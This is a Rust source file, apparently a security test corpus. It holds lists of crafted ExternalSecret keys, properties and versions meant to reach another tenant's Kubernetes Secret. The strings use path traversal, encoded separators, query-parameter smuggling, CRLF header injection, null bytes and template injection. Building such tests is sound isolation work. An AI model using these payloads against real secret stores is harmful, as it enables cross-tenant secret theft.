//! What a tenant may write into an ExternalSecret to get at another tenant's Secret `db`.

use anyhow::Result;
use serde_json::{Value, json};

/// Keys that lead to `NAMESPACE/db` if anything between the tenant and the API server takes them for
/// more than a name. NAMESPACE is another tenant's.
const KEYS: [&str; 72] = [
    "NAMESPACE/db",
    "/NAMESPACE/db",
    "//NAMESPACE/db",
    "../NAMESPACE/db",
    "../../NAMESPACE/db",
    "own/../../NAMESPACE/db",
    "./../NAMESPACE/db",
    "..\\NAMESPACE\\db",
    "\\NAMESPACE\\db",
    "%2fNAMESPACE%2fdb",
    "..%2fNAMESPACE%2fdb",
    "%2e%2e%2fNAMESPACE%2fdb",
    "%2e%2e/NAMESPACE/db",
    "..%252fNAMESPACE%252fdb",
    "%252e%252e%252fNAMESPACE%252fdb",
    "..%c0%afNAMESPACE%c0%afdb",
    "..%uff0fNAMESPACE%uff0fdb",
    "..／NAMESPACE／db",
    "..\u{2215}NAMESPACE\u{2215}db",
    "\u{2044}NAMESPACE\u{2044}db",
    "\u{200b}/NAMESPACE/db",
    "\u{feff}NAMESPACE/db",
    "bd/\u{202e}NAMESPACE/db",
    "&key=NAMESPACE/db",
    "own&key=NAMESPACE/db",
    "own&key=NAMESPACE%2Fdb",
    "own%26key%3DNAMESPACE%2Fdb",
    "own%2526key%253DNAMESPACE%252Fdb",
    "own;key=NAMESPACE/db",
    "own&path=password&key=NAMESPACE/db",
    "own&property=password&key=NAMESPACE/db",
    "own&namespace=NAMESPACE",
    "own&encoding=base64&key=NAMESPACE/db",
    "=&key=NAMESPACE/db",
    "=own&key=NAMESPACE/db",
    "&&key=NAMESPACE/db",
    "key=NAMESPACE/db",
    "key=NAMESPACE/db&path=password",
    "key=NAMESPACE%2Fdb&path=password",
    "key%3DNAMESPACE%2Fdb",
    "key%3DNAMESPACE%2Fdb%26path%3Dpassword",
    "key=own&key=NAMESPACE/db",
    "key=key=NAMESPACE/db",
    "key=key%3DNAMESPACE%2Fdb",
    "&key=key=NAMESPACE/db&path=password",
    "?key=NAMESPACE/db",
    "own?key=NAMESPACE/db",
    "own%3Fkey=NAMESPACE/db",
    "#key=NAMESPACE/db",
    "own#&key=NAMESPACE/db",
    "#/../NAMESPACE/db",
    "\nNAMESPACE/db",
    "own\n&key=NAMESPACE/db",
    "own\r\nHost: NAMESPACE\r\n\r\nGET /webhook?key=NAMESPACE/db",
    "own HTTP/1.1\r\nX: ",
    "own%0d%0a&key=NAMESPACE/db",
    "own\u{0}/NAMESPACE/db",
    "own%00/../NAMESPACE/db",
    "\t/NAMESPACE/db",
    " NAMESPACE/db",
    "own NAMESPACE/db",
    "+NAMESPACE/db",
    "{{ \"NAMESPACE/db\" }}",
    "{{ .remoteRef.namespace }}",
    "{{ .jwt.token }}",
    "}}NAMESPACE/db{{",
    "\" }}&key=NAMESPACE/db{{ \"",
    "${NAMESPACE}/db",
    "@NAMESPACE/db",
    ":NAMESPACE/db",
    "*/db",
    "https://localhost/webhook?key=NAMESPACE/db",
];

/// Properties of the tenant's own Secret that do the same.
const PROPERTIES: [&str; 20] = [
    "&key=NAMESPACE/db",
    "password&key=NAMESPACE/db",
    "password&key=NAMESPACE%2Fdb",
    "password%26key%3DNAMESPACE%2Fdb",
    "password%2526key%253DNAMESPACE%252Fdb",
    "password#&key=NAMESPACE/db",
    "password?key=NAMESPACE/db",
    "password;key=NAMESPACE/db",
    "password\n&key=NAMESPACE/db",
    "password HTTP/1.1\r\nX: ",
    "password\u{0}&key=NAMESPACE/db",
    "key=NAMESPACE/db&path=password",
    "../../NAMESPACE/db/password",
    "/NAMESPACE/db",
    "..NAMESPACE.db.password",
    "..%2f..%2fNAMESPACE%2fdb",
    "{{ .remoteRef.key }}",
    "\" }}&key=NAMESPACE/db{{ \"",
    "password+&key=NAMESPACE/db",
    "／NAMESPACE／db",
];

/// Versions that do the same. The store passes them on.
const VERSIONS: [&str; 6] = [
    "&key=NAMESPACE/db",
    "1&key=NAMESPACE/db",
    "1%26key%3DNAMESPACE%2Fdb",
    "#&key=NAMESPACE/db",
    "\n&key=NAMESPACE/db",
    "{{ \"&key=NAMESPACE/db\" }}",
];

/// A reference for each of them, with this namespace as the other tenant's.
pub(super) fn references(namespace: &str) -> Result<Vec<Value>> {
    let key = |key: &&str| json!({ "key": key });
    let property = |property: &&str| json!({ "key": "own", "property": property });
    let version = |version: &&str| json!({ "key": "own", "version": version });
    let keys = KEYS.iter().map(key);
    let all = keys.chain(PROPERTIES.iter().map(property)).chain(VERSIONS.iter().map(version));
    let fitted = |reference: Value| {
        Ok(serde_json::from_str(&reference.to_string().replace("NAMESPACE", namespace))?)
    };
    all.map(fitted).collect()
}
